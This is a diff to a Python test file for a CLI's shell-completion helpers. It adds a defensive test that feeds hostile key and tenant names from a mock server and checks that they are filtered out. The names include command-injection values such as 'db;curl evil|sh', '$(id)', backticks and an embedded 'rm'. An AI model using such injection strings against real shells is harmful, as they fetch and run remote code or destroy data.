@@ -6,10 +6,13 @@ import json
 import os
 import subprocess
 import time
-from typing import TYPE_CHECKING
+from types import SimpleNamespace
+from typing import TYPE_CHECKING, Any
 
+import click
 import pytest
 
+from resolver.cli.known_names import complete_keys, complete_tenants
 from tests.conftest import SCRIPTS, clean_environment
 
 if TYPE_CHECKING:
@@ -99,3 +102,18 @@ def test_bash_takes_it(admin: Cli) -> None:
         timeout=60,
     )
     assert done.stdout == "db_password\n", done.stderr
+
+
+def test_a_hostile_server_puts_no_command_on_the_line() -> None:
+    """What is no key or tenant name stays away from the shell."""
+    names = ["db", "db;curl evil|sh", "db$(id)", "db`id`", "db\nplain,rm", "db x", "-db"]
+    secrets = [SimpleNamespace(key=name) for name in names]
+    tenants = [SimpleNamespace(tenant=SimpleNamespace(name=name)) for name in names]
+    service = SimpleNamespace(
+        secrets=SimpleNamespace(list=lambda *_: SimpleNamespace(items=secrets)),
+        tenants=SimpleNamespace(list=lambda *_: SimpleNamespace(items=tenants)),
+    )
+    context: Any = click.Context(click.Command("x"))
+    context.obj = SimpleNamespace(service=service, caller=None, settings=SimpleNamespace(tenant=str))
+    for complete in (complete_keys, complete_tenants):
+        assert complete(context, click.Option(["-t"]), "") == ["db"]
